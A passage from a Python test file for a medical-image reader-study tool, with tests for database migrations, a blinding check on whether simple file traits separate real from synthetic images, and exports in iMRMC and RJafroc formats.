             for arm, seed in (("real-large", 0), ("synthetic-large", 1))]
    made = create_study(store, tmp_path / "studies", "large", *large, n_per_arm=2, seed=0)
    assert made.image_size == 224 and made.warnings == ()


def test_migrations_upgrade_a_database_without_changing_any_stored_row(tmp_path):
    path = tmp_path / "old.db"
    db = connect(path)
    migrations.apply(db, stop_before="m003_practice_and_management")  # as the previous release left it
    answers = ("real", 5, "yes", "no", "unsure", "yes", "fine", 2.5)
    for statement, values in [
        ("INSERT INTO studies (id, name, created_at, seed, n_per_arm, image_size, real_manifest, real_manifest_sha256,"
         " synthetic_manifest, synthetic_manifest_sha256, folder, matched_on, matching_note, fst_estimated)"
         " VALUES (1, 'old', 't0', 3, 1, 64, 'r.csv', 'aa', 's.csv', 'bb', '/studies/old', 'diagnosis', 'no types', 0)", []),
        ("INSERT INTO study_images VALUES ('img1', 1, 'real', 'r-1', '{}', NULL, '', 'melanoma', 'images/img1.png')", []),
        ("INSERT INTO study_images VALUES ('img2', 1, 'synthetic', 's-1', '{}', 5, 'V-VI', 'melanoma', 'images/img2.png')", []),
        ("INSERT INTO accounts VALUES (1, 'doc', 'scrypt$x', 'reviewer', 't0')", []),
        ("INSERT INTO study_reviewers VALUES (1, 1, 42, 't0')", []),
        ("INSERT INTO assignments VALUES (1, 1, 0, 'img2'), (1, 1, 1, 'img1')", []),
        ("INSERT INTO ratings VALUES (1, 1, 'img2', ?, ?, ?, ?, ?, ?, ?, ?, 2, 't1', 't2')", answers),
        ("INSERT INTO rating_history VALUES (1, 1, 1, 'img2', ?, ?, ?, ?, ?, ?, ?, ?, 1, 't1')", answers),
        ("INSERT INTO rating_history VALUES (2, 1, 1, 'img2', ?, ?, ?, ?, ?, ?, ?, ?, 2, 't2')", answers),
    ]:
        db.execute(statement, list(values))
    tables = ["studies", "study_images", "accounts", "study_reviewers", "assignments", "ratings", "rating_history"]
    columns = {t: [c.name for c in db[t].columns] for t in tables}
    before = {t: [tuple(r) for r in db.execute(f"SELECT * FROM {t} ORDER BY rowid")] for t in tables}
    db.conn.close()

    store = ReviewStore(path)
    after = {t: [tuple(r) for r in store.db.execute(f"SELECT {', '.join(columns[t])} FROM {t} ORDER BY rowid")] for t in tables}
    assert after == before
    assert get_study(store, "old").closed_at is None and get_study(store, "old").n_practice == 0
    assert role_of(store, "doc") == "reviewer" and practice_progress(store, "old", "doc") == (0, 0)
    assert save_rating(store, "old", "doc", "img1", ANSWERS, 1.0) == 1 and progress(store, "old", "doc") == (2, 2, 2)


def test_arms_a_trivial_feature_separates_are_warned_about_with_numbers_and_arms_at_parity_are_not(store, tmp_path):
    """Two seeds of one phantom preset, both PNG at 64 px: parity. The second set as large JPEGs: the file format and size
    give the arm away, and the study says so with its numbers."""
    real = write_phantom_dataset(tmp_path / "real", n=60, preset="balanced", size=64, seed=21, workers=1)
    twin = write_phantom_dataset(tmp_path / "twin", n=60, preset="balanced", size=64, seed=22, workers=1)
    table = read_manifest(twin).table
    (tmp_path / "jpeg" / "images").mkdir(parents=True)
    for path in table["image_path"]:
        Image.open(twin.parent / path).resize((256, 256), Image.Resampling.BICUBIC).save(
            tmp_path / "jpeg" / Path(path).with_suffix(".jpg"), quality=70)
    as_jpeg = [str(Path(p).with_suffix(".jpg")) for p in table["image_path"]]
    jpeg = write_manifest(table.drop(columns=["mask_path"]).assign(image_path=as_jpeg), tmp_path / "jpeg" / "manifest.csv")

    parity = create_study(store, tmp_path / "studies", "parity", real, twin, n_per_arm=20, seed=3)
    assert parity.blinding is not None and not parity.blinding.separable, parity.blinding
    assert parity.blinding.auc["file traits"] <= 0.7 and not any("tells the arms apart" in w for w in parity.warnings)

    told = create_study(store, tmp_path / "studies", "told", real, jpeg, n_per_arm=20, seed=3)
    assert told.blinding.separable and told.blinding.auc["file traits"] > 0.9
    assert dict(told.blinding.strongest(2)).keys() & {"JPEG source", "native short side"}
    (warning,) = [w for w in told.warnings if "A trivial feature tells the arms apart" in w]
    assert f"cross-validated AUC {told.blinding.auc['all']:.2f}" in warning and "export both arms at similar sizes" in warning
    assert told.blinding.p_value < 0.05 and f"permutation p = {told.blinding.p_value:.2f} against chance" in warning
    assert parity.blinding.p_value is None or parity.blinding.p_value >= 0.05  # tested only above 0.7: chance if at all
    assert get_study(store, "told").warnings == told.warnings  # stored with the study, said again wherever it is shown
    export_study(store, "told", tmp_path / "export")
    summary = pd.read_csv(tmp_path / "export" / "study_summary.csv")
    rows = summary[summary["group"] == "blinding check"].set_index("metric")
    assert rows.loc["arm_auc_all", "estimate"] == pytest.approx(told.blinding.auc["all"]) and rows.loc["arm_auc_all", "n"] == 40


def test_an_auc_above_the_threshold_by_chance_is_tested_against_shuffled_arms_and_not_warned_about():
    """Small arms of one distribution reach a cross-validated AUC above 0.7 now and then: the permutation test says chance."""
    names = [*FILE_FEATURES, *PIXEL_FEATURES]
    for seed in range(200):
        rng = np.random.default_rng(seed)
        features = {arm: [dict(zip(names, rng.normal(size=len(names)), strict=True)) for _ in range(8)] for arm in ("real", "synthetic")}
        check = arm_separability(features, seed)
        if max(check.auc.values()) > SEPARABLE_AUC:
            break
    assert max(check.auc.values()) > SEPARABLE_AUC, "no chance AUC above the threshold in 200 draws"
    assert check.p_value >= 0.05 and not check.separable and "No trivial feature tells the arms apart" in check.sentence()
    assert from_json({k: v for k, v in check.to_json().items() if k != "p_value"}).separable  # a study stored before: AUC alone



def read_imrmc_as_rjafroc_does(path: Path) -> tuple[dict, pd.DataFrame]:
    """The counts and observations of an .imrmc file, read by the rules of RJafroc's ReadImrmc (DfReadIowaFormats.R):
    N0/N1/NR/NM lines before "BEGIN DATA:", then rows of exactly 4 comma-separated fields; numeric case ids; truth rows of
    reader -1 scored 0 or 1; as many cases, readers and modalities as the counts say."""
    lines = [line.strip() for line in path.read_text().splitlines()]
    counts = {key: int(value) for key, _, value in (line.partition(":") for line in lines[:lines.index("BEGIN DATA:")])
              if key in ("N0", "N1", "NR", "NM")}
    rows = []
    for line in lines[lines.index("BEGIN DATA:") + 1:]:
        if len(line.split(",")) != 4:
            break
        rows.append([float(field) for field in line.split(",")])  # every field numeric, as RJafroc needs
    data = pd.DataFrame(rows, columns=["reader", "case", "modality", "score"])
    truth = data[data["reader"] == -1]
    assert set(truth["score"]) <= {0, 1} and set(data["case"]) == set(truth["case"])
    assert (counts["N0"], counts["N1"]) == ((truth["score"] == 0).sum(), (truth["score"] == 1).sum())
    readings = data[data["reader"] != -1]
    assert counts["NR"] == readings["reader"].nunique() and counts["NM"] == readings["modality"].nunique()
    return counts, readings.merge(truth[["case", "score"]].rename(columns={"score": "truth"}), on="case")


def test_the_ratings_are_exported_for_imrmc_and_rjafroc_and_give_the_studys_own_reader_averaged_auc(store, study, tmp_path):
    from sklearn.metrics import roc_auc_score

    from review_data.stats.reader_study import study_mrmc_auc

    rng = np.random.default_rng(4)
    for name in ("ana", "ben", "cy"):
        add_reviewer(store, study, name, f"password-{name}")
        for position in range(40):  # every reader scores every image: fully crossed, as RJafroc needs
            item = item_at(store, study, name, position)
            save_rating(store, study, name, item.image_id, {**ANSWERS, "realism": int(rng.integers(1, 8))}, 1.0)
    files = {f.name: f for f in export_study(store, study, tmp_path / "export")}
    counts, readings = read_imrmc_as_rjafroc_does(files["ratings.imrmc"])
    assert counts == {"N0": 20, "N1": 20, "NR": 3, "NM": 1} and len(readings) == 120
    key = pd.read_csv(files["imrmc_key.csv"])
    cases = key[key["kind"] == "case"]
    synthetic = dict(zip(cases["number"], cases["source"] == "synthetic", strict=True))
    assert synthetic == dict(zip(readings["case"], readings["truth"] == 1, strict=True))  # the key and the truth rows agree
    per_reader = readings.groupby("reader").apply(lambda r: roc_auc_score(r["truth"], r["score"]), include_groups=False)
    assert per_reader.mean() == pytest.approx(study_mrmc_auc(ratings_table(store, study))["estimate"], abs=1e-9)


def test_an_image_a_reviewer_cannot_assess_is_set_aside_counted_apart_and_can_still_be_rated(store, study, tmp_path):
    from review_data.export import cannot_assess_table
    from review_data.session import CANNOT_ASSESS, save_cannot_assess

    add_reviewer(store, study, "ana", "password-a")
    first, second = (item_at(store, study, "ana", p).image_id for p in (0, 1))
    save_rating(store, study, "ana", first, ANSWERS, 2.0)
    with pytest.raises(ReviewError, match="has your rating already"):  # a rating is never turned into "cannot assess"
        save_cannot_assess(store, study, "ana", first, "blurred")
    save_cannot_assess(store, study, "ana", second, "too blurred to judge", 4.0)
    assert progress(store, study, "ana") == (2, 40, 2)  # answered: it does not come back as the first open image
    assert item_at(store, study, "ana", 1).answers == {CANNOT_ASSESS: True, "comment": "too blurred to judge"}
    assert len(ratings_table(store, study)) == 1 and study_report(ratings_table(store, study))["n_ratings"] == 1  # no statistic
    files = {f.name: f for f in export_study(store, study, tmp_path / "export")}
    set_aside = pd.read_csv(files["cannot_assess.csv"])
    assert list(set_aside[["reviewer", "position", "reason"]].itertuples(index=False, name=None)) == [("ana", 1, "too blurred to judge")]
    assert set(set_aside["source"]) <= {"real", "synthetic"}  # with the key, for the analyst
    summary = pd.read_csv(files["study_summary.csv"])
    assert summary.loc[summary["metric"] == "images_set_aside", "estimate"].item() == 1

    save_rating(store, study, "ana", second, ANSWERS, 3.0)  # judged after all: the rating replaces the set-aside
    assert len(cannot_assess_table(store, study)) == 0 and item_at(store, study, "ana", 1).answers["call"] == "real"
    save_cannot_assess(store, study, "ana", item_at(store, study, "ana", 2).image_id)  # a reason is optional
    close_study(store, study)
    with pytest.raises(ReviewError, match="This study is closed"):
        save_cannot_assess(store, study, "ana", item_at(store, study, "ana", 3).image_id, "late")
    with pytest.raises(sqlite3.IntegrityError, match="closed"):  # and the database refuses it around the library
        store.db.execute("DELETE FROM cannot_assess")
